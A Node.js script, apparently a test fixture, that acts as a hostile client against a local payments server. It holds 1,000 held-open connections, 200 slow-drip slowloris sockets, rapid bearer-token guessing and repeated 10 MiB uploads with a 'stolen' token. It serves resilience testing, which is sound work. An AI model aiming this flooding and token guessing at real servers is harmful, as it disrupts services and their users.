// Whoever means a server ill, in a process of its own:
//   fork(hostility.mjs, [PORT, A TOKEN THAT WAS STOLEN]) sends a message when all of its connections are open, and goes on until its parent disconnects.
import { once } from 'node:events';
import { connect } from 'node:net';

const [port, stolen] = [Number(process.argv[2]), process.argv[3]];
const mebibyte = 1_024 * 1_024;
const connections = 1_000;
/** Of them those that send a letter at a time. */
const slow = 200;
/** A second. */
const [guesses, large] = [50, 2];

const head = (token, length) =>
  `PUT /v1/payments/H1 HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n`;

/** A connection that is opened again whenever the server has had enough of it. */
function kept(begin) {
  const socket = connect(port, '127.0.0.1');
  socket.on('error', () => {});
  socket.resume();
  socket.once('connect', () => begin(socket));
  socket.once('close', () => setTimeout(() => kept(begin), 100));
  return socket;
}

function ask(write) {
  const socket = connect(port, '127.0.0.1');
  socket.on('error', () => {});
  socket.resume();
  socket.once('connect', () => write(socket));
}

const opened = [];
for (let index = 0; index < connections; index += 1) {
  const isSlow = index < slow;
  const socket = kept((each) => {
    if (!isSlow) return;
    each.write(head('x', 1_000));
    const drip = setInterval(() => each.write('x'), 500);
    each.once('close', () => clearInterval(drip));
  });
  opened.push(once(socket, 'connect'));
}
await Promise.all(opened);

const body = Buffer.alloc(10 * mebibyte, 'x');
setInterval(() => ask((socket) => socket.end(`${head('x'.repeat(43), 2)}{}`)), 1_000 / guesses);
setInterval(() => {
  ask((socket) => {
    socket.write(head(stolen, body.length));
    socket.end(body);
  });
}, 1_000 / large);
process.on('disconnect', () => process.exit());
process.send('all there');
